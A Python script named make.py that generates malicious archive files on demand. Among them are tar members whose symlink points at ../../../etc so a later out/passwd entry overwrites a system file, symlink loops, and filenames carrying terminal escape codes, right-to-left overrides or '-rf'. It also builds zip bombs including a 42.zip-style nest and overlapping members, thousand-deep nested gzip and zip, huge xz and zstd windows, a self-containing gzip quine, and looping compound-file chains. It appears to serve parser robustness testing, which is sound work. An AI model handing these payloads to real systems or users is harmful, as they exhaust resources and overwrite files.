"""Files that attack whoever reads them: make.py NAME writes one to standard output.

Each function is one file. Nothing here is taken from elsewhere: formats are written by
hand where their tools refuse, after POSIX pax, APPNOTE.TXT, RFC 1952, the xz format.
"""
import gzip
import io
import lzma
import struct
import sys
import zipfile
import zlib

# Names with what terminals, shells and readers of lists trip over.
NAMES = [b'new\nline', b'escape\x1b[31mred\x1b]0;title\x07', b'right\xe2\x80\xaetxt.exe',
         b'\xff\xfe\x80latin', b'tab\tbell\x07', b'delete\x7f', b'csi\xc2\x9b31m',
         b'zero\xe2\x80\x8bwidth', b'back\\slash', b'"quote\'', b'<b>&amp;', b' ', b'-rf']


# ---- tar --------------------------------------------------------------------

def tar_header(name, size=b'00000000000', kind=b'0', magic=b'ustar\x0000', put=()):
    block = bytearray(512)
    for at, value in ((0, name), (100, b'0000644\0'), (108, b'0000000\0'),
                      (116, b'0000000\0'), (124, size), (136, b'00000000000\0'),
                      (156, kind), (257, magic), *put):
        block[at:at + len(value)] = value
    block[148:156] = b' ' * 8
    block[148:156] = b'%06o\0 ' % sum(block)
    return bytes(block)


def padded(data):
    return data + bytes(-len(data) % 512)


def tar_file(name, data):
    return tar_header(name, b'%011o' % len(data)) + padded(data)


def pax(*records):
    body = b''
    for key, value in records:
        rest = len(key) + len(value) + 3
        length = rest + len(str(rest))
        length += len(str(length)) - len(str(rest))
        body += b'%d %s=%s\n' % (length, key, value)
    return tar_header(b'pax', b'%011o' % len(body), b'x') + padded(body)


END = bytes(1024)


def many_tar(changed=-1):
    """A hundred thousand empty members, a few kilobytes when compressed."""
    return b''.join(tar_header(b'd%03d/%06d' % (i // 1000, i),
                               put=[(136, b'00000000001')] if i == changed else ())
                    for i in range(100000)) + END


def many_changed_tar():
    return many_tar(70000)


def sparse_gnu():
    """16 TiB of holes in one block."""
    return tar_header(b'big', kind=b'S', magic=b'ustar  \0', put=[
        (386, b'00000000000\0' * 2), (483, b'\x80' + (1 << 44).to_bytes(11, 'big'))]) + END


def sparse_pax():
    body = padded(b'1\n8796093022208\n512\n') + bytes(512)
    return pax((b'GNU.sparse.major', b'1'), (b'GNU.sparse.minor', b'0'),
               (b'GNU.sparse.name', b'big'), (b'GNU.sparse.realsize', b'8796093022720')) + \
        tar_header(b'x', b'%011o' % len(body)) + body + END


def huge_pax():
    """An extended header that says that it is 8 GiB long."""
    return tar_header(b'pax', b'77777777777', b'x') + padded(b'9999999999 path=x\n') + END


def long_pax():
    """One that is 20 MiB long."""
    return pax((b'path', b'y' * (20 << 20))) + tar_header(b'x') + END


def number_minus():
    return tar_header(b'x', b'\xff' * 12) + padded(b'hello') + END


def number_least():
    return tar_header(b'x', b'\xff' + bytes(11)) + padded(b'hello') + END


def number_most():
    return tar_header(b'x', b'\x80' + b'\xff' * 11) + padded(b'hello') + END


def number_64():
    return tar_header(b'x', b'\x80' + bytes(3) + b'\x7f' + b'\xff' * 7) + padded(b'hello') + END


def number_owner():
    return tar_header(b'x', put=[(108, b'\xff' * 8)]) + END


def deep_folders():
    return pax((b'path', b'/'.join([b'd'] * 4096) + b'/file')) + \
        tar_header(b'x', b'%011o' % 5) + padded(b'hello') + END


def loop_tar():
    """Links to themselves, in a ring, and out; a member below a link."""
    link = [(b'a', b'b', b'2'), (b'b', b'a', b'2'), (b'c', b'c', b'2'), (b'h', b'h', b'1'),
            (b'i', b'j', b'1'), (b'j', b'i', b'1'), (b'out', b'../../../etc', b'2')]
    return b''.join(tar_header(name, kind=kind, put=[(157, target)])
                    for name, target, kind in link) + \
        tar_file(b'out/passwd', b'evil') + tar_file(b'good', b'good') + END


def names_tar():
    return b''.join(tar_file(name, b'x') for name in NAMES) + END


# ---- zip --------------------------------------------------------------------

def zip_raw(entries):
    """entries: name, offset of the local header or None, local bytes, size, crc."""
    body = directory = b''
    for name, packed, method, size, crc, local in entries:
        at = len(body) if local is None else local
        if local is None:
            body += struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, method, 0, 33, crc,
                                len(packed), size, len(name), 0) + name + packed
        directory += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, method, 0, 33,
                                 crc, len(packed), size, len(name), 0, 0, 0, 0, 0, at) + name
    return body + directory + struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(entries),
                                          len(entries), len(directory), len(body), 0)


def stored(name, data, local=None):
    return name, data, 0, len(data), zlib.crc32(data), local


def names_zip():
    return zip_raw([stored(name, b'x') for name in NAMES])


def same_bytes_zip():
    """A thousand names for the same megabyte."""
    data = bytes(range(256)) * 4096
    return zip_raw([stored(b'%04d' % i, data, None if i == 0 else 0) for i in range(1000)])


def deflated(name, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def nested_zip():
    data = b'x'
    for _ in range(4096):
        data = zip_raw([stored(b'a', data)])
    return data


def nested_gzip():
    data = b'x'
    for _ in range(4096):
        data = gzip.compress(data, 0, mtime=0)
    return data


def nested_tar():
    data = b'x'
    for _ in range(64):
        data = tar_file(b't', data) + END
    return data


def forty_two_zip():
    """Sixteen zips in each of sixteen zips, six deep: 64 TiB out of 27 KB."""
    data = deflated('0.dll', bytes(64 << 20))
    for _ in range(5):
        out = io.BytesIO()
        with zipfile.ZipFile(out, 'w') as archive:
            for i in range(16):
                archive.writestr(zipfile.ZipInfo('lib %x.zip' % i), data,
                                 zipfile.ZIP_DEFLATED)
        data = out.getvalue()
    return data


def overlapping_zip(count=32, size=21 << 20):
    """Each member holds, as a stored block, the next one's local header, and shares the
    one kernel that all end with."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(size)
    body = squeeze.compress(zeros) + squeeze.flush()
    members, packed, whole = [], len(body), size
    head = b''
    crc = zlib.crc32(zeros)
    for i in reversed(range(count)):
        name = b'%04d' % i
        if head:
            quote = b'\0' + struct.pack('<HH', len(head), len(head) ^ 0xffff)
            zeros = head + zeros
            body = quote + body
            packed, whole, crc = len(body), len(zeros), zlib.crc32(zeros)
        head = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 33, crc, packed, whole,
                           len(name), 0) + name
        body = head + body
        members.append((name, packed, whole, crc, len(body)))
    directory = b''.join(
        struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 8, 0, 33, crc, packed, whole,
                    len(name), 0, 0, 0, 0, 0, len(body) - behind) + name
        for name, packed, whole, crc, behind in reversed(members))
    return body + directory + struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, count, count,
                                          len(directory), len(body), 0)


# ---- others -----------------------------------------------------------------

def names_ar():
    return b'!<arch>\n' + b''.join(
        b'%-16s%-12d%-6d%-6d%-8s%-10d`\nx\n' % (name[:14] + b'/', 0, 0, 0, b'100644', 1)
        for name in NAMES)


def names_cpio():
    out = b''
    for name, data in [(name, b'x') for name in NAMES] + [(b'TRAILER!!!', b'')]:
        head = b'070701' + b'%08x' * 13 % (1, 0o100644, 0, 0, 1, 0, len(data), 0, 0, 0, 0,
                                           len(name) + 1, 0) + name + b'\0'
        out += head + bytes(-len(head) % 4) + data + bytes(-len(data) % 4)
    return out


def names_gzip():
    return b'\x1f\x8b\x08\x08' + bytes(6) + NAMES[1] + b'\0' + zlib.compress(b'x')[2:-4] + \
        struct.pack('<II', zlib.crc32(b'x'), 1)


def empty_members():
    """A hundred thousand empty gzip members, then one that holds a byte."""
    return gzip.compress(b'', mtime=0) * 100000 + gzip.compress(b'x', mtime=0)


def dictionary_xz():
    """An LZMA2 dictionary of 4 GiB (the xz format, 5.3.1)."""
    data = bytearray(lzma.compress(b'hello' * 100, check=lzma.CHECK_CRC32))
    size = (data[12] + 1) * 4
    data[data.index(b'\x21\x01', 12) + 2] = 40
    data[12 + size - 4:12 + size] = struct.pack('<I', zlib.crc32(bytes(data[12:12 + size - 4])))
    return bytes(data)


def window_zstd():
    """A window of 2 GiB (RFC 8878, 3.1.1.1.2), one raw block."""
    return struct.pack('<IBB', 0xfd2fb528, 0, 21 << 3) + struct.pack('<I', 5 << 3 | 1)[:3] + \
        b'hello'


def stored_block(count):
    """The header of a block of `count` bytes as they are (RFC 1951, 3.2.4): five bytes."""
    return struct.pack('<BHH', 0, count, count ^ 0xffff)


def repeat_block(count):
    """The last `count` bytes once more: five bytes, for counts from 17 to 20. A block of
    fixed codes (3.2.6) with two matches of ten bytes at most."""
    bits = '010'
    for length in (10, count - 10):
        bits += f'{length - 2:07b}' + f'{8:05b}' + f'{count - 17:03b}'[::-1]
    bits += '0000000'
    return bytes(int(bits[i:i + 8][::-1], 2) for i in range(0, 40, 8))


def solve(columns, wanted):
    """The x of 32 bits with the sum of columns[i], for each bit i of x, equal to wanted."""
    rows = [(column, 1 << i) for i, column in enumerate(columns)]
    answer = 0
    for bit in range(32):
        pivot = next(row for row in rows if row[0] >> bit & 1)
        rows.remove(pivot)
        rows = [(a ^ pivot[0], b ^ pivot[1]) if a >> bit & 1 else (a, b) for a, b in rows]
        if wanted >> bit & 1:
            wanted, answer = wanted ^ pivot[0], answer ^ pivot[1]
    return answer


def quine_gzip():
    """A gzip file that holds itself: it prints its own blocks, each as data and as
    what was printed before. Its checksum is the one that makes the file have it."""
    start = b'\x1f\x8b\x08\x08' + bytes(6) + b'q\0'
    one, four, again = stored_block(5), stored_block(20), repeat_block(20)
    first, first_again = stored_block(len(start) + 5), repeat_block(len(start) + 5)
    last, last_again = stored_block(18), repeat_block(18)
    none = stored_block(0)

    def file(crc):
        end = b'\1' + none[1:] + struct.pack('<II', crc, size)
        return start + first + start + first + first_again + one + first_again + one + one + \
            four + first_again + one + one + four + again + (four + again) * 3 + four + \
            (again + none * 2 + last) * 2 + (last_again + end) * 2

    size = 0
    size = len(file(0))
    plain = zlib.crc32(file(0))
    # a checksum is linear: where must the one in the file be for both to be equal?
    columns = [zlib.crc32(file(1 << i)) ^ plain ^ 1 << i for i in range(32)]
    return file(solve(columns, plain))


# ---- compound files ([MS-CFB]), made from the good one that is named -------------

def compound():
    with open(sys.argv[2], 'rb') as file:
        data = bytearray(file.read())
    size = 1 << struct.unpack_from('<H', data, 30)[0]

    def sector(field):
        return (struct.unpack_from('<I', data, field)[0] + 1) * size
    return data, size, sector


def compound_chain():
    """The directory's chain of sectors goes to itself."""
    data, _, sector = compound()
    first = struct.unpack_from('<I', data, 48)[0]
    struct.pack_into('<I', data, sector(76) + 4 * first, first)
    return data


def compound_pieces():
    """Every small stream's chain goes to itself."""
    data, size, sector = compound()
    for i in range(size // 4):
        struct.pack_into('<I', data, sector(60) + 4 * i, i)
    return data


def compound_sibling():
    """The root's child is its own sibling."""
    data, size, sector = compound()
    at = sector(48)
    child = struct.unpack_from('<I', data, at + 76)[0]
    for _ in range(child * 128 // size):
        at = (struct.unpack_from('<I', data, sector(76) + 4 * (at // size - 1))[0] + 1) * size
    struct.pack_into('<I', data, at + child * 128 % size + 68, child)
    return data


if __name__ == '__main__':
    sys.stdout.buffer.write(globals()[sys.argv[1]]())
